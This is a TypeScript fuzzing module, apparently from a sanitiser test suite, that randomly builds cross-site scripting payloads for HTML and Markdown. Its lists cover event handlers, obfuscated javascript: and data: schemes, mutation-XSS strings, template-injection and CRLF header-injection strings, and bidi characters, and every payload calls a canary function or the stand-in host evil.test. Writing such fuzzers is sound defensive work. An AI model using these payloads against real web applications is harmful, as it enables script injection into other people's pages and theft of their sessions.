import type { randomFrom } from "../seeded-random.ts";

type Random = ReturnType<typeof randomFrom>;

/** What a payload does if anything of it becomes more than words: it calls this, or this address. */
const call = "strangerHit()";
const address = "//evil.test/hit";

const tags = [
  "script",
  "img",
  "svg",
  "math",
  "iframe",
  "object",
  "embed",
  "video",
  "audio",
  "details",
  "body",
  "input",
  "marquee",
  "style",
  "link",
  "meta",
  "base",
  "form",
  "button",
  "textarea",
  "select",
  "template",
  "noscript",
  "title",
  "frameset",
  "animate",
  "set",
  "foreignObject",
  "mglyph",
  "annotation-xml",
  "x-y",
  "image",
  "isindex",
  "dialog",
  "slot",
  "portal",
];
const events = [
  "onerror",
  "onload",
  "onclick",
  "onfocus",
  "onmouseover",
  "ontoggle",
  "onanimationstart",
  "onpointerrawupdate",
  "onbegin",
  "onbeforeinput",
  "onscrollend",
  "oncontentvisibilityautostatechange",
  "ONERROR",
  "oNlOaD",
];
const separators = [" ", "/", "\t", "\n", "\f", " / ", "\u00a0", "  "];
const quotes = ['"', "'", "`", ""];
const breakouts = [
  "",
  '">',
  "'>",
  "</textarea>",
  "</title>",
  "</script>",
  "</style>",
  "</noscript>",
  "-->",
  "]]>",
  "</p></main>",
  "</template>",
  "'\"--></style></script>",
  "`>",
  '\\">',
  "&quot;>",
  "%22%3E",
  "\u2028",
  "*/",
  "<!--",
  "<![CDATA[",
];
const schemes = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "java\nscript:",
  "java\rscript:",
  " javascript:",
  "\u0001javascript:",
  "&#106;avascript:",
  "&#x6a;avascript&colon;",
  "javascript&colon;",
  "javascript&#58;",
  "jav&Tab;ascript:",
  "jav&NewLine;ascript:",
  "data:text/html,",
  "data:text/html;base64,PHNjcmlwdD5zdHJhbmdlckhpdCgpPC9zY3JpcHQ+",
  "data:image/svg+xml,<svg onload=strangerHit()>",
  "vbscript:",
  "blob:",
  "file:///",
  "view-source:javascript:",
  "//evil.test/",
  "\\\\evil.test\\",
  "https:evil.test",
  "feed:javascript:",
  "filesystem:",
];
const bidi = [
  "\u202e",
  "\u2066",
  "\u2067",
  "\u200f",
  "\u061c",
  "\u200b",
  "\u2060",
  "\ufeff",
  "\u034f",
  "\u00ad",
];
const templates = [
  "{{constructor.constructor('strangerHit()')()}}",
  "${strangerHit()}",
  "<%= strangerHit() %>",
  "#{strangerHit()}",
  "{%raw%}{{7*7}}",
  "[[${7*7}]]",
  "{{=strangerHit()}}",
  "*{strangerHit()}",
  "@(strangerHit())",
  "{strangerHit()}",
  "$L1",
  "$@1",
  "$T",
  "$undefined",
  "$F0",
  "$RE",
  "$S react.suspense",
  ':HL["//evil.test/hit","style"]',
  '1:I["evil"]',
  '{"$$typeof":"Symbol(react.element)"}',
  "__proto__",
  "%00",
  "%0d%0aSet-Cookie:x=1",
  "{0}",
  "{name, select, a{b}}",
  "<name>strangerHit</name>",
  "'{'",
  "%n%s%x",
];
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<svg><desc><![CDATA[</desc><script>${call}</script>]]></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  `<select><template><img src=x onerror=${call}></template></select>`,
  `<a href="${address}"><b></a><a href=javascript:${call}>`,
  `<x-y is=x><style>@import '${address}';</style>`,
  `<div style="background:url(${address})">`,
  `<meta http-equiv=refresh content="0;url=${address}">`,
  `<base href="${address}/">`,
  `<link rel=stylesheet href=${address}>`,
  `<input autofocus onfocus=${call}>`,
  `<iframe srcdoc="&lt;script&gt;parent.${call}&lt;/script&gt;">`,
  `<script type=module>import('${address}')</script>`,
  `<img srcset="${address} 1x" sizes=auto loading=eager>`,
];

function element(random: Random): string {
  const tag = random.pick(tags)!;
  const name = random.below(3) === 0 ? tag.toUpperCase() : tag;
  const [gap, quote] = [random.pick(separators)!, random.pick(quotes)!];
  const attribute = random.pick([
    `${random.pick(events)!}=${quote}${call}${quote}`,
    `src=${quote}${address}${quote}${gap}${random.pick(events)!}=${call}`,
    `href=${quote}${random.pick(schemes)!}${call}${quote}`,
    `xlink:href=${quote}data:,${call}${quote}`,
    `style=${quote}background:url(${address})${quote}`,
    `formaction=${quote}javascript:${call}${quote}`,
    `srcdoc=${quote}<script>${call}</script>${quote}`,
  ])!;
  const end = random.pick([">", "/>", "", "//", " x", ">x</" + name + ">"])!;
  return `<${name}${gap}${attribute}${gap}${end}${random.below(4) === 0 ? `<script>${call}</script>` : ""}`;
}

function markdown(random: Random): string {
  const url = `${random.pick(schemes)!}${random.pick([call, "", "//x%0a" + call, `//"onmouseover=${call}//`])!}`;
  return random.pick([
    `[눌러](${url})`,
    `![그림](${url})`,
    `![](https:${address} "x" onerror=${call})`,
    `[a](<${url}> "t\\" onclick=${call}")`,
    `<${url}>`,
    `[a][1]\n\n[1]: ${url}`,
    `[![a](${url})](${url})`,
    `\`\`\`html\n${element(random)}\n\`\`\``,
    `~~~\n</code></pre>${element(random)}`,
    `| a | b |\n|---|---|\n| ${element(random)} | [x](${url}) |`,
    `> - ${element(random)}`,
    `**<b ${element(random)}**`,
    `https://sora.test/"onmouseover=${call}`,
    `www.evil.test/<img/src=${address}>`,
    `[a](https://ok.test/"><img src=x onerror=${call}>)`,
    `&lt;img src=x onerror=${call}&gt;`,
    `&#60;script&#62;${call}&#60;/script&#62;`,
    `<!-- ${element(random)} -->`,
    `[^1]\n\n[^1]: ${element(random)}`,
  ])!;
}

/** One hostile text. */
export function nextPayload(random: Random): string {
  const kind = random.below(10);
  if (kind < 4) return random.pick(breakouts)! + element(random);
  if (kind < 7) return markdown(random);
  if (kind < 8) return random.pick(templates)!;
  if (kind < 9) return random.pick(breakouts)! + random.pick(mutations)!;
  return `${random.pick(bidi)!}${element(random)}${random.pick(bidi)!}`;
}

/** The same words with every sign that a language of markup knows made a letter: what they alone make of a page. */
export const defused = (text: string): string => text.replaceAll(/[^\p{L}\p{N}\s]/gu, "x");
